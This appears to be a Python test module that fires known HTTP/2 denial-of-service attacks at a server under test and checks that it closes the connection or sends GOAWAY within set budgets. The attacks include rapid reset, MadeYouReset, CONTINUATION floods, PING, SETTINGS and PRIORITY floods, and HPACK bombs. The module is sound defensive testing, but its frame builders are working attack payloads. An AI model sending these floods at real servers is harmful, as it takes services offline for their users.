"""Attacks on HTTP/2."""

import struct
import time

from . import wire
from .table import attack, check
from .wire import CONTINUATION, DATA, GOAWAY, HEADERS, HTTP2, PING, PRIORITY, RST_STREAM, SETTINGS
from .wire import WINDOW, block, frame

# FloodLimits.framesPerSecond.
FRAMES_PER_SECOND = 20


def ended(connection, make, bound, per_second=1):
    """Sends about as much as the bound allows: then it has to end, however busy the machine
    is. What were sent beyond it would only tell how late its end was seen.

    per_second: what the budgets earn with time (FloodLimits)."""
    began, sent = time.monotonic(), 0
    while sent < bound + per_second * (time.monotonic() - began):
        # A few at once: a budget of 200 is spent long before the time for a head has passed.
        group = 10 if bound > 100 else 1
        if connection.ended or connection.goaway is not None or not connection.send(
                b"".join(make(sent + number) for number in range(group))):
            break
        sent += group
        connection.poll(0.002)
    check(connection.until_closed(10), f"still open after {sent}")
    return f"closed after {sent}, GOAWAY {connection.goaway}"


@attack("rapid reset", "GOAWAY within 17 requests (CVE-2023-44487)",
        ("request_limit", "http2_reset_budget"))
def rapid_reset(server):
    with HTTP2(server) as c:
        return ended(
            c, lambda n: frame(HEADERS, 5, 2 * n + 1, block())
            + frame(RST_STREAM, 0, 2 * n + 1, struct.pack(">I", 8)), 17)


@attack("rapid reset, all at once", "one GOAWAY, no answer (CVE-2023-44487)",
        ("request_limit", "http2_reset_budget", "http2_byte_budget", "http2_frame_budget"))
def rapid_reset_at_once(server):
    reset = struct.pack(">I", 8)
    with HTTP2(server) as c:
        octets = b"".join(
            frame(HEADERS, 5, 2 * n + 1, block()) + frame(RST_STREAM, 0, 2 * n + 1, reset)
            for n in range(1000))
        c.send(octets)
        check(c.until_closed(10), "still open")
        check(len(c.body(1)) < 100_000, "answered all")
        return f"{len(octets)} bytes of it, {len(c.frames)} frames back, GOAWAY {c.goaway}"


def provoke(server, make, bound=10):
    with HTTP2(server, settings=[(4, 0)]) as c:
        return ended(c, make, bound)


@attack("made you reset: malformed requests", "closed within 10 (CVE-2025-8671)",
        ("http2_provoked_reset_budget",))
def made_you_reset_malformed(server):
    return provoke(server, lambda n: frame(HEADERS, 5, 2 * n + 1, block([(":method", "GET")])))


@attack("made you reset: WINDOW_UPDATE 0", "closed within 10 (CVE-2025-8671)",
        ("http2_provoked_reset_budget", "http2_protocol_error"))
def made_you_reset_window_zero(server):
    return provoke(
        server, lambda n: frame(HEADERS, 5, 2 * n + 1, block())
        + frame(WINDOW, 0, 2 * n + 1, bytes(4)))


@attack("made you reset: window overflow", "closed within 10 (CVE-2025-8671)",
        ("http2_provoked_reset_budget", "http2_flow_control_error"))
def made_you_reset_overflow(server):
    most = struct.pack(">I", 0x7FFFFFFF)
    return provoke(
        server, lambda n: frame(HEADERS, 5, 2 * n + 1, block())
        + 2 * frame(WINDOW, 0, 2 * n + 1, most))


@attack("made you reset: DATA behind END_STREAM", "closed within 10 (CVE-2025-8671)",
        ("http2_stream_closed", "http2_provoked_reset_budget"))
def made_you_reset_data(server):
    return provoke(
        server, lambda n: frame(HEADERS, 5, 2 * n + 1, block()) + frame(DATA, 0, 2 * n + 1, b"x"))


@attack("made you reset: depends on itself", "closed within 10 (CVE-2025-8671)",
        ("http2_protocol_error", "http2_provoked_reset_budget"))
def made_you_reset_priority(server):
    return provoke(
        server, lambda n: frame(
            HEADERS, 0x25, 2 * n + 1, struct.pack(">IB", 2 * n + 1, 1) + block()))


@attack("CONTINUATION flood", "closed within 10 frames (CVE-2024-27316)",
        ("http2_continuation_budget",))
def continuation_flood(server):
    with HTTP2(server) as c:
        return ended(
            c, lambda n: frame(
                CONTINUATION if n else HEADERS, 0 if n else 1, 1, block([("a", "b")])), 10)


@attack("CONTINUATION flood, empty frames", "closed within 10 frames",
        ("http2_continuation_budget",))
def empty_continuation_flood(server):
    with HTTP2(server) as c:
        return ended(c, lambda n: frame(CONTINUATION if n else HEADERS, 0, 1, b""), 10)


def flood(name, bound, reasons, cve, make):
    @attack(name, f"closed within {bound} frames" + (f" ({cve})" if cve else ""), reasons)
    def run(server):
        with HTTP2(server) as c:
            return ended(c, make, bound, FRAMES_PER_SECOND)
    return run


flood("PING flood", 17, ("http2_ping_budget",), "CVE-2019-9512",
      lambda n: frame(PING, 0, 0, struct.pack(">Q", n)))
flood("SETTINGS flood", 17, ("http2_settings_budget",), "CVE-2019-9515",
      lambda n: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + n)))
flood("PRIORITY flood", 220, ("http2_frame_budget",), "CVE-2019-9513",
      lambda n: frame(PRIORITY, 0, 2 * n + 1, struct.pack(">IB", 0, 1)))
flood("empty DATA flood", 240, ("http2_frame_budget", "http2_stream_closed"), "CVE-2019-9518",
      lambda n: frame(DATA, 0, 1, b"") if n else frame(HEADERS, 4, 1, block(method="POST")))
flood("WINDOW_UPDATE flood", 220, ("http2_frame_budget",), "",
      lambda n: frame(WINDOW, 0, 0, struct.pack(">I", 1)))
flood("flood of unknown frames", 220, ("http2_frame_budget",), "",
      lambda n: frame(0x42, 0xFF, n, b""))
flood("acknowledgements of no SETTINGS", 220,
      ("http2_frame_budget", "http2_acknowledgement_budget", "http2_protocol_error"), "",
      lambda n: frame(SETTINGS, 1, 0))
flood("GOAWAY flood", 220, ("http2_frame_budget", "peer_closed"), "",
      lambda n: frame(GOAWAY, 0, 0, bytes(8)))
flood("PRIORITY_UPDATE flood", 220, ("http2_frame_budget",), "",
      lambda n: frame(0x10, 0, 0, struct.pack(">I", 2 * n + 1) + b"u=0"))
flood("RST_STREAM of streams that ended", 240,
      ("http2_frame_budget", "http2_reset_budget", "http2_stream_closed"), "",
      lambda n: frame(RST_STREAM, 0, 1, struct.pack(">I", 8)) if n
      else frame(HEADERS, 5, 1, block()))
flood("DATA of padding alone", 240,
      ("http2_frame_budget", "http2_stream_closed", "http2_byte_budget"), "",
      lambda n: frame(DATA, 8, 1, b"\xff" + bytes(255)) if n
      else frame(HEADERS, 4, 1, block(method="POST")))
flood("windows of streams opened and shut", 17, ("http2_settings_budget",), "",
      lambda n: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0x7FFFFFFF if n % 2 else 0)))
flood("a frame longer than allowed", 2, ("http2_frame_size_error",), "",
      lambda n: struct.pack(">I", 1 << 20)[1:] + bytes([DATA, 0]) + struct.pack(">I", 1)
      + bytes(1000))
flood("PUSH_PROMISE of a client", 2, ("http2_protocol_error",), "",
      lambda n: frame(5, 4, 1, struct.pack(">I", 2) + block()))
flood("large PING acknowledgements", 220, ("http2_frame_budget",), "",
      lambda n: frame(PING, 1, 0, bytes(8)))


@attack("header of fields without names", "closed within 10 requests (CVE-2019-9516)",
        ("http2_provoked_reset_budget",))
def empty_names(server):
    fields = [(":method", "GET"), (":scheme", "https"), (":path", "/"), (":authority", "x")]
    with HTTP2(server) as c:
        return ended(
            c, lambda n: frame(HEADERS, 5, 2 * n + 1, block(fields + [("", "")] * 100)), 10)


@attack("HPACK bomb", "not decoded beyond 64 KiB (CVE-2016-1544)", ("http2_header_list_budget",))
def hpack_bomb(server):
    with HTTP2(server) as c:
        entry = b"\x40" + wire.text("bomb") + wire.text("v" * 3900)
        c.send(frame(HEADERS, 5, 1, block() + entry + b"\xbe" * 10_000))
        check(c.until_closed(10), "still open")
        return f"10,000 references to 3.9 KB in 14 KB, GOAWAY {c.goaway}"


@attack("HPACK bomb over requests", "not decoded beyond 64 KiB each",
        ("http2_header_list_budget",))
def hpack_bomb_later(server):
    with HTTP2(server) as c:
        entry = b"\x40" + wire.text("bomb") + wire.text("v" * 3900)
        c.send(frame(HEADERS, 5, 1, block() + entry))
        check(c.until(lambda c: c.is_answered(1)), "the first request is not answered")
        c.send(frame(HEADERS, 5, 3, block() + b"\xbe" * 16_000))
        check(c.until_closed(10), "still open")
        return f"GOAWAY {c.goaway}"


@attack("40 KB of fields", "answered 200", ())
def large_header(server):
    fields = [(":method", "GET"), (":scheme", "https"), (":path", wire.PATH),
              (":authority", "example.com")] + [(f"x-{n}", "v" * 1000) for n in range(40)]
    octets = block(fields)
    with HTTP2(server) as c:
        c.send(frame(HEADERS, 1, 1, octets[:16384]))
        c.send(frame(CONTINUATION, 0, 1, octets[16384:32768]))
        c.send(frame(CONTINUATION, 4, 1, octets[32768:]))
        check(c.until(lambda c: c.is_answered()), f"not answered, GOAWAY {c.goaway}")
        status = c.status()
        check(status == 200, f"status {status}")
        return "200"


@attack("content without end", "answered, then stopped within 720 KiB",
        ("http2_flow_control_error", "http2_byte_budget"))
def endless_content(server):
    with HTTP2(server) as c:
        said = ended(
            c, lambda n: frame(DATA, 0, 1, bytes(8192)) if n
            else frame(HEADERS, 4, 1, block(method="POST")), 92)
        check(c.is_answered(), "not answered")
        return said


@attack("windows of one byte", "closed after 204 frames, or 20 s", ("http2_frame_budget",))
def one_byte_windows(server):
    with HTTP2(server, settings=[(4, 1)]) as c:
        c.send(frame(HEADERS, 5, 1, block(authority="big.example")))
        said = ended(
            c, lambda n: frame(WINDOW, 0, 1, struct.pack(">I", 1)), 220,
            FRAMES_PER_SECOND)
        return said + f", {len(c.body())} bytes of content"


@attack("window of nothing", "closed after 20 s (CVE-2019-9517)", ("http2_stalled",), slow=True)
def zero_window(server):
    with HTTP2(server, settings=[(4, 0)]) as c:
        c.send(frame(HEADERS, 5, 1, block(authority="big.example")))
        check(c.until_closed(35), "still open after 35 s")
        check(c.body() == b"", "content without a window")
        return f"GOAWAY {c.goaway}"


@attack("open connection window that nobody reads", "closed after 20 s or so (CVE-2019-9511)",
        ("http2_stalled", "slow_reader"), slow=True)
def unread_answers(server):
    with HTTP2(server, settings=[(4, 0x7FFFFFFF)], receive_buffer=4096) as c:
        c.send(frame(WINDOW, 0, 0, struct.pack(">I", 0x7FFF0000)))
        for n in range(8):
            c.send(frame(HEADERS, 5, 2 * n + 1, block(authority="big.example")))
        time.sleep(26)
        check(c.until_closed(10), "still open after 36 s")
        return f"{sum(len(p) for k, _, _, p in c.frames if k == DATA)} of 960,000 bytes delivered"


@attack("half a field block", "closed after the time for a head", ("head_timeout", "idle_timeout",
        "truncated_request", "http2_stalled"), slow=True)
def half_field_block(server):
    with HTTP2(server) as c:
        c.send(frame(HEADERS, 1, 1, block()[:10]))
        check(c.until_closed(35), "still open after 35 s")
        return "closed"


@attack("preface of another protocol", "closed at once", ("http2_bad_preface",))
def bad_preface(server):
    sock = wire.tls(server, "h2")
    sock.sendall(b"GET / HTTP/1.1\r\nHost: example.com\r\n\r\n")
    received, over = wire.read_all(sock, 10)
    sock.close()
    check(over, "still open")
    return f"{len(received)} bytes back"


@attack("more streams than allowed", "refused, the others answered", ())
def too_many_streams(server):
    with HTTP2(server, settings=[(4, 0)]) as c:
        c.send(b"".join(frame(HEADERS, 5, 2 * n + 1, block()) for n in range(12)))
        c.until(lambda c: sum(k == RST_STREAM for k, _, _, _ in c.frames) >= 4, 10)
        refused = [s for k, _, s, p in c.frames if k == RST_STREAM and p[3] == 7]
        check(len(refused) == 4, f"refused: {refused}, GOAWAY {c.goaway}")
        c.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))
        done = c.until(lambda c: all(c.is_answered(2 * n + 1) for n in range(8)), 10)
        check(done, "the accepted ones are not answered")
        return "4 of 12 refused, 8 answered"


@attack("a client that asks 1,040 times", "1,000 answered, then GOAWAY behind the last",
        ("request_limit",))
def request_limit(server):
    with HTTP2(server) as c:
        # A window for all answers: 65,535 bytes of content end among them.
        c.send(b"\x00\x00\x04\x08\x00\x00\x00\x00\x00" + (1 << 30).to_bytes(4, "big"))
        answered = 0
        for n in range(1040):
            c.get(2 * n + 1)
            if not c.until(lambda c: c.is_answered(2 * n + 1) or c.goaway is not None, 10):
                break
            answered += c.is_answered(2 * n + 1)
            if c.goaway is not None:
                break
        check(answered == 1000, f"{answered} answered")
        check(c.frames[-1][0] == GOAWAY, "something follows the GOAWAY")
        last = int.from_bytes(c.frames[-1][3][:4], "big")
        check(last == 1999, f"last stream {last}")
        check(c.until_closed(10), "still open")
        return "1,000 answered, last stream 1999"
